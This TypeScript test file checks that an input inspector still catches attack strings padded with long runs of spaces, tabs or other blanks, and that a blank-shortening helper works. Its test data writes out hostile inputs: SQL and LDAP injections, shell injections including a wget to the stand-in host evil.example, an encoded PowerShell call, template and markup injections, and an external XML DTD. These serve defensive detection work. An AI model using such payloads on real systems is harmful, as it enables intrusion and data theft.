import { describe, expect, test } from 'vitest';
import { inspectText, inspectXml } from './inspect-text.ts';
import { shortenBlanks } from './shorten-blanks.ts';

const worst = (text: string): string | null => inspectText(text).find(({ score }) => score >= 5)?.category ?? null;

describe.each([' ', '\t', '\r\n '])('%j hides nothing, however often it stands there', (blank) => {
  test.each([
    [2, '9 or 1 like 1', 'sql'],
    [17, '9 or 1 like 1', 'sql'],
    [17, '; cat /srv/x', 'command'],
    [17, 'a | wget http://evil.example/x', 'command'],
    [17, 'x=9 union select a,b from c', 'sql'],
    [17, 'drop table people;', 'sql'],
    [17, '` id `', 'command'],
    [17, '{{ 3 * 4 }}', 'template'],
    [17, '*) (uid=*', 'ldap'],
    [17, '" onfocus = f() x="', 'markup'],
    [5, 'powershell -enc SQBFAFgA', 'command'],
    [2_000, '$( whoami )', 'command'],
  ])('%d times in %j', (times, attack, category) => {
    expect(worst(attack.replaceAll(' ', blank.repeat(times)))).toBe(category);
  });
});

test.each(['/**/', '${IFS}'])('%j is a blank, and seventeen of them are one', (blank) => {
  const attack = blank === '/**/' ? 'x=9 union select a,b from c' : 'x;cat /srv/x';
  expect(worst(attack.replaceAll(' ', blank.repeat(17)))).toBe(blank === '/**/' ? 'sql' : 'command');
});

test('blanks hide no declaration of XML', () => {
  const xml = `<!DOCTYPE${' '.repeat(40)}a SYSTEM "http://evil.example/a.dtd"><a/>`;
  expect(inspectXml(xml)[0]?.category).toBe('xml');
});

test('line breaks stay line breaks, and what is no long run stays as it is', () => {
  expect(shortenBlanks('a    b\n\n  c')).toBe('a    b\n\n  c');
  expect(shortenBlanks('a     b')).toBe('a    b');
  expect(shortenBlanks('a   \r\n   \r\n        b')).toBe('a\r\n  b');
  expect(shortenBlanks(`a${'\n'.repeat(9)}b`)).toBe('a\n\nb');
});

test('code, tables and verse are no attacks for their blanks', () => {
  for (const text of [
    'if (x)\n                return y\n            else\n                sleep',
    `| id${' '.repeat(30)}| name${' '.repeat(30)}|\n| 1${' '.repeat(30)}| cat${' '.repeat(30)}|`,
    `Roses are red,\n${' '.repeat(24)}violets are blue;\n\n\n\n\n\nsort of`,
  ])
    expect(worst(text)).toBeNull();
});

test('linear_time: a mebibyte of blanks, and of runs of them, is shortened', () => {
  for (const unit of [' ', '\n', `a${' '.repeat(20)}`, `${' '.repeat(20)}\n`])
    expect(inspectText(unit.repeat(1_048_576 / unit.length)).length).toBeGreaterThanOrEqual(0);
});

test('five blanks are shortened wherever they stand, and of whatever kind', () => {
  for (const blank of [' ', '\t', '\u00a0', '\u1680', '\u2003', '\ufeff'])
    for (let before = 0; before < 12; before += 1) {
      const start = 'a'.repeat(before);
      expect(shortenBlanks(`${start}${blank.repeat(5)}b`)).toBe(`${start}${blank.repeat(4)}b`);
    }
});
